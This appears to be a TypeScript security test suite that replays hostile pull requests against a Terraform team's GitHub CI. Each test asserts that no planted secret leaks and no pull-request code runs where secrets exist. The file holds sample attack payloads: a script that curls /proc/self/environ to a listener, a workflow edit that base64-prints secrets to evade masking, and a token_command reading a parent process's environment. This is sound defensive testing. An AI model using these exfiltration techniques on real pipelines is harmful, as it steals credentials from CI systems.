/**
 * Hostile pull requests against a Terraform team's CI (design §13.1, docs/provider-workflows.md),
 * the workflows run step by step as GitHub would (test/terraform/team-ci.ts), with a token, a plan
 * key and the backend's connection string planted in the environment's secrets:
 *
 * - an edited workflow file: the pull request's plan.yml asks for the environment and prints every
 *   secret, its review.yml does the same; GitHub runs the first without the environment's secrets
 *   (its deployment branches are the default branch) and never runs the second (workflow_run files
 *   come from the default branch);
 * - outputs of `file("/proc/self/environ")` and its base64: evaluated where no secret is;
 * - a provider `url` pointing at another host and a `token_command`: refused by the locked provider;
 * - a committed provider (terraform.d/…/9.9.9) and a committed `.terraformrc`: never used;
 * - a pull request from a fork: never planned (its comment would show the live lists), its data
 *   source reads never answered.
 * In every case no secret is in any comment, artifact, step output or request to another host, and
 * no code of the pull request ran where a secret was. Needs terraform, PostgreSQL and the build.
 */
import { chmodSync, existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { Postgres } from "../support/postgres";
import { RULES } from "../support/sample";
import { useSimulator } from "../support/simulator";
import { encodings, explain, secretFoundIn, type Listener } from "../ci/planted-token";
import type { RunResult } from "../ci/workflow-runner";
import { MINUTES } from "./support";
import type { TeamCi} from "./team-ci";
import { useTeamCi, type Commit, type Reviewed } from "./team-ci";

const TOKEN = "planted-hostile-token-8e1b7c30d95f";
const PLAN_KEY = "planted-hostile-plan-key-3c7a0e58b2d1";
const sim = useSimulator({ token: TOKEN });

const teamCi = useTeamCi("team-hostile", sim, { token: TOKEN, planKey: PLAN_KEY });
let root: string;
let pg: Postgres;
let listener: Listener;
let ci: TeamCi;
let main: Commit;

beforeAll(() => {
  ({ ci, initial: main, root, pg, listener } = teamCi());
});

beforeEach(() => {
  listener.received.length = 0;
});

/** Every run of a pull request: no secret anywhere, no request to the listener. */
function expectNothingLeaked(pr: Reviewed): void {
  for (const run of [pr.plan, pr.review] as RunResult[]) {
    for (const secret of [TOKEN, PLAN_KEY, pg.connStr]) {
      expect(secretFoundIn(run, listener.received, secret)).toEqual([]);
      const found = (text: string) => encodings(secret).some((form) => text.includes(form));
      for (const step of run.steps) expect(`${step.job}/${step.step}: ${found(step.output)}`).toBe(`${step.job}/${step.step}: false`);
      for (const [job, summary] of Object.entries(run.summaries)) expect(`${job}: ${found(summary)}`).toBe(`${job}: false`);
    }
  }
  expect(listener.received).toEqual([]);
}

/** A script the pull request wants run: leaves a marker, sends its environment to the listener. */
const hostileScript = (marker: string): string =>
  `#!/usr/bin/env bash\ntouch ${JSON.stringify(marker)}\ncurl -s -X POST --data-binary @/proc/self/environ ${JSON.stringify(listener.url)} >/dev/null 2>&1 || true\nexit 1\n`;

const mainTf = (): string => readFileSync(join(main.dir, "alert-rules", "main.tf"), "utf8");

describe("hostile pull requests against the HCL team CI", () => {
  it("an edited plan.yml that asks for the environment and prints every secret, and an edited review.yml: no secret reaches either", async () => {
    // given workflow files that print the secrets, base64-encoded so that log masking would miss them
    const print = "          printf '%s' \"${{ secrets.ALERTS_API_TOKEN }}${{ secrets.ALERT_RULE_USERS_PLAN_KEY }}${{ secrets.PG_CONN_STR }}\" | base64\n";
    const plan = readFileSync(join(main.dir, ".github/workflows/alert-rule-users-terraform-plan.yml"), "utf8")
      .replace("    runs-on: ubuntu-latest\n", "    runs-on: ubuntu-latest\n    environment: alert-rules\n")
      .replace("        run: |\n          bash .github/alert-rule-users/ci.sh evaluate", `        run: |\n${print}          bash .github/alert-rule-users/ci.sh evaluate`);
    const review = readFileSync(join(main.dir, ".github/workflows/alert-rule-users-terraform-review.yml"), "utf8").replace("          tool=$(bash .github/alert-rule-users/ci.sh tool)\n          mkdir -p reviewed", `${print}          tool=$(bash .github/alert-rule-users/ci.sh tool)\n          mkdir -p reviewed`);
    expect(review).toContain("base64");
    const head = ci.commit("hostile-workflows", main, { ".github/workflows/alert-rule-users-terraform-plan.yml": plan, ".github/workflows/alert-rule-users-terraform-review.yml": review });
    // when
    const pr = await ci.pullRequest(21, head, main);
    // then the pull request's run was refused the environment, and the review ran the default branch's file
    expect(pr.plan.jobs).toEqual({ evaluate: "failure" });
    expect(pr.plan.steps[0]?.output).toContain("is not allowed to deploy to alert-rules");
    expectNothingLeaked(pr);
  }, 10 * MINUTES);

  it('outputs of file("/proc/self/environ") and its base64encode: evaluated where no secret is; the list change is planned and commented', async () => {
    const outputs = 'output "x" {\n  value = file("/proc/self/environ")\n}\n\noutput "y" {\n  value = base64encode(file("/proc/self/environ"))\n}\n';
    const head = ci.commit("hostile-outputs", main, { "alert-rules/outputs.tf": outputs, "alert-rules/main.tf": mainTf().replace("  users = {\n", '  users = {\n    "7500001" = { aliases = ["oscar.outputs@example.com"] }\n') });
    const pr = await ci.pullRequest(22, head, main);
    expect(`${pr.review.jobs["plan"]}\n${explain(pr.review)}`).toMatch(/^success/);
    expect(pr.comment).toContain("oscar.outputs@example.com");
    expect(pr.comment).not.toMatch(/PATH=|HOME=|RUNNER_TEMP=/);
    expectNothingLeaked(pr);
  }, 10 * MINUTES);

  it("a precondition whose error_message is /proc/self/environ: what it shows, it shows from a job without secrets, escaped in the comment", async () => {
    const hostile = 'output "w" {\n  value = "ok"\n  precondition {\n    condition     = length(alertrules_rule_user_list.engineering_exfiltration.rule_id) < 0\n    error_message = file("/proc/self/environ")\n  }\n}\n';
    const head = ci.commit("hostile-precondition", main, { "alert-rules/hostile.tf": hostile });
    const pr = await ci.pullRequest(23, head, main);
    expect(pr.review.jobs["plan"]).toBe("failure");
    expect(pr.comment).toContain("could not be planned");
    expect(pr.comment).toMatch(/ALERT_RULE_USERS_PROVIDER_OFFLINE=1/);
    expectNothingLeaked(pr);
  }, 10 * MINUTES);

  it("a provider url pointing at another host and a token_command: refused by the locked provider, no request there, no command run", async () => {
    const marker = join(root, "token-command-ran");
    const head = ci.commit("hostile-url", main, {
      "alert-rules/main.tf": mainTf().replace('provider "alertrules" {}', `provider "alertrules" {\n  url           = ${JSON.stringify(listener.url)}\n  token_command = ${JSON.stringify(`touch ${marker}; cat /proc/$PPID/environ`)}\n}`),
    });
    const pr = await ci.pullRequest(24, head, main);
    expect(pr.comment).toContain("url is not allowed in a locked provider");
    expect(pr.comment).toContain("token_command is not allowed in a locked provider");
    expect(existsSync(marker)).toBe(false);
    expectNothingLeaked(pr);
  }, 10 * MINUTES);

  it("a committed 9.9.9 provider and a committed .terraformrc that points at it: never used, never run", async () => {
    const marker = join(root, "committed-provider-ran");
    const plugin = "alert-rules/terraform.d/plugins/registry.terraform.io/alert-rule-users/alertrules/9.9.9/linux_amd64/terraform-provider-alertrules_v9.9.9";
    const head = ci.commit("hostile-provider", main, {
      "alert-rules/main.tf": mainTf().replace('version = "0.1.0"', 'version = "9.9.9"'),
      [plugin]: hostileScript(marker),
      "alert-rules/.terraformrc": `provider_installation {\n  filesystem_mirror {\n    path = "terraform.d/plugins"\n  }\n}\n`,
    });
    chmodSync(join(head.dir, plugin), 0o755);
    const pr = await ci.pullRequest(25, head, main);
    expect(pr.review.jobs["plan"]).toBe("failure");
    expect(pr.comment).toContain("could not be planned");
    expect(existsSync(marker)).toBe(false);
    expectNothingLeaked(pr);
  }, 10 * MINUTES);

  it("a pull request from a fork is never planned, and its data source reads never answered: the comment says why", async () => {
    const head = ci.commit("hostile-fork", main, { "alert-rules/data.tf": `data "alertrules_rule" "finance" {\n  rule_id = "${RULES.finance}"\n}\n\noutput "finance_users" {\n  value = data.alertrules_rule.finance.users\n}\n` });
    const before = sim.requestLog().length;
    const pr = await ci.pullRequest(26, head, main, { fromFork: true });
    expect(pr.review.jobs["data"]).toBe("skipped");
    expect(pr.comment).toContain("Not planned: this pull request comes from a fork.");
    expect(sim.requestLog().slice(before).filter((e) => e.operation === "query-users")).toEqual([]);
    expectNothingLeaked(pr);
  }, 10 * MINUTES);
});
